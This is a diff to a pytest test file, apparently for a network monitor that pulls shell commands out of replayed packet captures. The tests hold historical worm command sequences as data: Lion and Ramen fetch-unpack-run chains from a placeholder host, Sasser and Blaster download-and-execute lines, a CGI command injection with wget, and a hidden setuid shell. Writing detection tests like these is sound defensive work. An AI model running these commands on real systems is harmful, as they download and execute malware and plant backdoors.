@@ -364,8 +364,34 @@ SASSER = (b'echo off&echo open 198.51.100.7 5554>>cmd.ftp&echo anonymous>>cmd.ft
           b'&echo get 1_up.exe>>cmd.ftp&echo bye>>cmd.ftp&echo on&ftp -s:cmd.ftp&1_up.exe&echo off&del cmd.ftp&echo on')
 
 
+LION = [b'TERM="linux"', b'export PATH="/sbin:/usr/sbin:/bin:/usr/bin:/usr/local/bin"', b'lynx -dump http://198.51.100.7/crew.tgz >1i0n.tgz',
+        b'tar -zxvf 1i0n.tgz', b'cd lib', b'./1i0n.sh', b'exit']
+
+
+@pytest.mark.parametrize('before', TAKEN)
+def test_nobody_answers_any_more(tmp_path, before):
+    steps = TAKEN[before] + [(0, line + b'\n') for line in LION]
+    lines = bodies(replay_packets(tmp_path, talk(steps, 40000, 53)), 'shell')
+    assert [line['command'] for line in lines] == [line.decode() for line in LION]
+
+
+def test_attack_that_nobody_answers(tmp_path):
+    asked = b'GET /cgi-bin/x?a=;wget http://h/k;sh k HTTP/1.0\r\n\r\n'
+    records = replay_packets(tmp_path, talk([(0, asked)], 40000, 80))
+    assert bodies(records, 'shell') == []
+    assert {r['app_proto'] for r in records if r['event_type'] == 'flow'} == {'http'}
+
+
+def test_many_lines_at_once(tmp_path):
+    """Ramen's."""
+    typed = [b'mkdir /usr/src/.poop;cd /usr/src/.poop', b'export TERM=vt100', b'lynx -source http://198.51.100.7:27374 > ramen.tgz',
+             b'cp ramen.tgz /tmp', b'gzip -d ramen.tgz', b'tar -xvf ramen.tar', b'./start.sh', b'echo Eat Your Ramen! | mail -s x a@example.com']
+    lines = bodies(replay_packets(tmp_path, talk([(0, b'\n'.join(typed) + b'\n'), (1, b'done\n')], 40000, 39168)), 'shell')
+    assert [line['command'] for line in lines] == [line.decode() for line in typed]
+
+
 @pytest.mark.parametrize('lines', [
-    [b'tftp -i 198.51.100.7 GET msblast.exe', b'start msblast.exe', b'msblast.exe'], [SASSER],
+    LION, [b'tftp -i 198.51.100.7 GET msblast.exe', b'start msblast.exe', b'msblast.exe'], [SASSER],
     [b'cd /tmp', b'wget http://198.51.100.7/x', b'./x'], [b'unset HISTFILE; mkdir /dev/.x; cp /bin/sh /dev/.x/sh; chmod 4755 /dev/.x/sh']])
 def test_nobody_answers(tmp_path, lines):
     records = replay_packets(tmp_path, talk([(0, line + b'\n') for line in lines], 40000, 9996))
@@ -374,7 +400,7 @@ def test_nobody_answers(tmp_path, lines):
 
 @pytest.mark.parametrize('steps', [
     [(0, b'hello\nwget http://h/x\n')], [(0, b'id\n')], [(0, b'echo 1\nstats\nversion\nget a\n')],
-    [(0, b'start; stop; echo\n')],
+    [(0, b'start; stop; echo\n')], [(0, b'PORT=31337\nPASS=x\nROOT=/tmp\nNAME=y\n')],
     [(0, b'julien\r\n'), (1, b'Login: julien  Name: J\r\nDirectory: /home/julien  Shell: /bin/sh\r\nNo Plan.\r\n')],
     [(0, b'stats\r\n'), (1, b'STAT pid 1\r\nEND\r\n'), (0, b'get a\r\n'), (1, b'END\r\n'), (0, b'quit\r\n')],
     [(1, b'200 news.example ready\r\n'), (0, b'GROUP a.b\r\n'), (1, b'211 1 1 1 a.b\r\n')],
